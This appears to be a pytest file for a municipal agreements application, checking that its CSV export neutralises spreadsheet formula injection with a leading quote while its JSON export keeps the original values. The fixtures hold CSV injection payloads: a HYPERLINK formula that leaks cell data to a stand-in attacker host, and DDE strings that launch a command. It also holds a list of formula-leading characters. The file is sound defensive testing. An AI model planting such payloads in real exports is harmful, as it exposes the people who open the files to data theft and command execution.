"""/aftaler.csv opens in a spreadsheet without running anything a title, a case number or a remark
holds (CSV/formula injection, issue 8, item 5); /aftaler.json keeps the true values."""

import csv
import io
import json

import pytest

from aftaler import services
from aftaler.choices import Beslutning, Status
from sundhed.csvsikker import celle
from tests.aftaler.conftest import I_DAG

TITEL = '=HYPERLINK("https://angriber.example/?d="&A1;"Klik her")'
BESLUTNINGER = [
    {"sagsnummer": "+cmd|' /C calc'!A0", "bemaerkning": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"sagsnummer": "-2+3+cmd|' /C calc'!A0", "bemaerkning": "=1+1"},
    {"sagsnummer": "24/99", "bemaerkning": "Behandlet på mødet"},
]
FORMELTEGN = ("=", "+", "-", "@", "\t", "\r")


def _stroem(svar) -> str:
    return b"".join(svar.streaming_content).decode("utf-8")


@pytest.mark.parametrize(("vaerdi", "forventet"), [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("24/99", "24/99"),
    ("Aftale om sundhedsvisitationer", "Aftale om sundhedsvisitationer"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
])
def test_a_cell_that_starts_like_a_formula_gets_a_quote(vaerdi, forventet):
    assert celle(vaerdi) == forventet


@pytest.fixture
def aftale(db, lav_aftale, struktur, personas):
    """A recommended agreement with a formula for a title and the council's decisions holding formulas."""
    aftale = lav_aftale(Status.INDSTILLET, titel=TITEL)
    for felter in BESLUTNINGER:
        services.godkendelse_registrer(aftale=aftale, part=struktur["kommune_a"], bruger=personas["kommune_a"],
                                       beslutning=Beslutning.UDSAT, dato=I_DAG, **felter)
    return aftale


def _csv(client) -> list[dict]:
    svar = client.get("/aftaler.csv")
    assert svar.status_code == 200
    return list(csv.DictReader(io.StringIO(_stroem(svar).lstrip("\ufeff"))))


def test_no_csv_cell_starts_like_a_formula(client, aftale):
    raekker = _csv(client)
    assert len(raekker) == len(BESLUTNINGER)
    for raekke in raekker:
        for felt, vaerdi in raekke.items():
            assert not vaerdi.startswith(FORMELTEGN), (felt, vaerdi)


def test_the_title_case_numbers_and_remarks_are_neutralised_with_a_quote(client, aftale):
    raekker = _csv(client)
    assert {r["titel"] for r in raekker} == {"'" + TITEL}
    assert sorted(r["sagsnummer"] for r in raekker) == sorted(celle(b["sagsnummer"]) for b in BESLUTNINGER)
    assert sorted(r["bemaerkning"] for r in raekker) == sorted(celle(b["bemaerkning"]) for b in BESLUTNINGER)
    # What is not a formula is left as it was, numbers too.
    assert "24/99" in {r["sagsnummer"] for r in raekker}
    assert {r["version"] for r in raekker} == {"1"}
    assert {r["beslutning_version"] for r in raekker} == {"1"}


def test_the_json_keeps_the_true_values(client, aftale):
    data = json.loads(_stroem(client.get("/aftaler.json")))
    (post,) = data["aftaler"]
    assert post["titel"] == TITEL
    assert sorted((b["sagsnummer"], b["bemaerkning"]) for b in post["beslutninger"]) == sorted(
        (b["sagsnummer"], b["bemaerkning"]) for b in BESLUTNINGER)
